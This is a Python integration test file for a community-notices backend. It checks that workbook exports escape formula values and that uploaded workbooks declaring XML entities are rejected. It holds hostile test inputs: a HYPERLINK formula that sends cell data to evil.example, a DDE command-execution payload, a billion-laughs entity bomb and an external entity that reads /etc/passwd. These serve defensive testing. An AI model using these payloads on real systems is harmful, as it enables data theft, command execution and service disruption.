"""Workbooks in and out: an uploaded workbook cannot smuggle XML entities into the parser, and what a
resident typed comes out of every export as text, never as a formula that runs on a staff screen."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from backend.notices import service as notices
from backend.registry.models import Role
from tests.integration.test_registry_import import IMPORT, residents, workbook

CREATE = """mutation($c: ID!, $input: NoticeInput!) { noticeCreate(communityId: $c, input: $input) {
  notice { id } errors { code } } }"""
PUBLISH = "mutation($id: ID!) { noticePublish(id: $id) { notice { state } errors { code } } }"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")'


def _cells(content: bytes) -> list:
    """Every cell of the first sheet as openpyxl reads it back (value and type)."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
async def community_with(make_person, other_community, console):
    """A community of its own with a committee member signed in on the console, and one resident
    whose name is `name`."""

    async def arrange(name: str):
        community, room = other_community
        resident = await make_person(community.id, [Role.RESIDENT, Role.HOUSEHOLD_HEAD], room=room)
        resident.display_name = name
        await resident.save(update_fields=["display_name"])
        staff = await make_person(community.id, [Role.COMMITTEE_STAFF])
        await console.sign_in(staff.handle)
        return community

    return arrange


async def test_a_name_that_is_a_formula_comes_out_of_the_registry_export_as_text(console, community_with):
    community = await community_with(HYPERLINK)
    response = await console.http.get("/exports/registry.xlsx", params={"community": str(community.id)},
                                      headers={"authorization": f"Bearer {console.token}"})
    assert response.status_code == 200
    name = next(c for c in _cells(response.content) if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert name.data_type == "s" and name.value == "'" + HYPERLINK


async def test_a_name_that_is_a_formula_comes_out_of_the_not_reached_export_as_text(console, community_with):
    community = await community_with("@SUM(1+1)*cmd|' /C calc'!A0")
    created = await console.query(CREATE, c=str(community.id), input={
        "title": "燃气检查", "bodyHtml": "<p>周六上门</p>", "category": "物业", "audience": [{"kind": "COMMUNITY"}]})
    notice_id = created["data"]["noticeCreate"]["notice"]["id"]
    assert (await console.query(PUBLISH, id=notice_id))["data"]["noticePublish"]["errors"] == []
    await notices.fan_out(notice_id)
    response = await console.http.get(f"/exports/notices/{notice_id}/not-reached.xlsx",
                                      headers={"authorization": f"Bearer {console.token}"})
    assert response.status_code == 200
    residents_cell = next(c for c in _cells(response.content) if isinstance(c.value, str) and "SUM" in c.value)
    assert residents_cell.data_type == "s" and residents_cell.value == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert all(c.data_type != "f" for c in _cells(response.content))


def _with_entities(doctype: str, reference: str) -> bytes:
    """A valid import workbook whose sheet part declares entities and spells its first header cell
    ("小区") with one."""
    source = zipfile.ZipFile(io.BytesIO(workbook(residents("实体小区", 1, seed=7))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = (doctype + data.decode().replace("<t>小区</t>", f"<t>{reference}</t>", 1)).encode()
            target.writestr(item, data)
    return out.getvalue()


BOMB = ('<!DOCTYPE worksheet [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">' +
        "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>")


@pytest.mark.parametrize("doctype, reference", [
    (BOMB, "&i;"),  # a billion laughs: 10^9 characters from a few hundred bytes
    ('<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),  # an external entity
    ('<!DOCTYPE worksheet [<!ENTITY x "小区">]>', "&x;"),  # even a harmless one: no DTD is parsed at all
], ids=["bomb", "external", "internal"])
async def test_a_workbook_declaring_xml_entities_is_refused(console, demo_community, doctype, reference):
    await console.sign_in("committee")
    data = _with_entities(doctype, reference)
    response = await console.http.post(
        "/uploads", params={"kind": "registry_import"}, headers={"authorization": f"Bearer {console.token}"},
        files={"file": ("residents.xlsx", data, "application/octet-stream")})
    if response.status_code != 200:  # refused at the door (the upload checks the package): also fine
        assert response.status_code in (400, 415, 422), response.text
        return
    result = (await console.query(IMPORT, c=str(demo_community.id), u=response.json()["id"], dry=True,
                                  valid=False))["data"]["registryImport"]
    assert result["report"] is None
    assert result["errors"] == [{"code": "INVALID_INPUT", "message": "无法读取该 Excel 文件"}]
